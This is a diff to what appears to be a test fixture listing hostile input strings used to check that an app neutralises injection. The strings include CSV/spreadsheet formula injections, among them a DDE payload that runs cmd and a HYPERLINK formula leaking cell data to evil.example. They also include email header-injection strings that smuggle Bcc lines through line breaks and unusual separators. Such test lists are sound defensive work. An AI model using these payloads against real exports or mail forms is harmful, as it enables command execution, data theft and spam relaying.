@@ -28,6 +28,7 @@ let hostileTexts =
     naughtyTexts + [
         "=1+1", "+1+1", "-1+1", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u{feff}=1+1", "\u{200b}=1+1",
         "＝1+1", "＋1", "－1", "＠SUM(1)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "\"=1+1\"", "'=1+1",
+        "Foo;=1+1;x", "Foo;\"=1+1;x", "Foo\t=1+1\tx", "Hi,\n\"=1+1\n; @x",
         "Bcc: everyone@evil.example", "x\r\nBcc: everyone@evil.example", "x\nBcc: everyone@evil.example", "x\rBcc: a@b.example",
         "x\u{2028}Bcc: a@b.example", "x\u{85}Bcc: a@b.example", "x\u{0b}Bcc: a@b.example", "x\u{0}Bcc: a@b.example", "x%0d%0aBcc: a@b.example",
         "=?UTF-8?B?QmNj?=", "=?utf-8?q?=0D=0ABcc:_a@b.example?=", "\" <evil@evil.example>, \"", "Evil <evil@evil.example>",
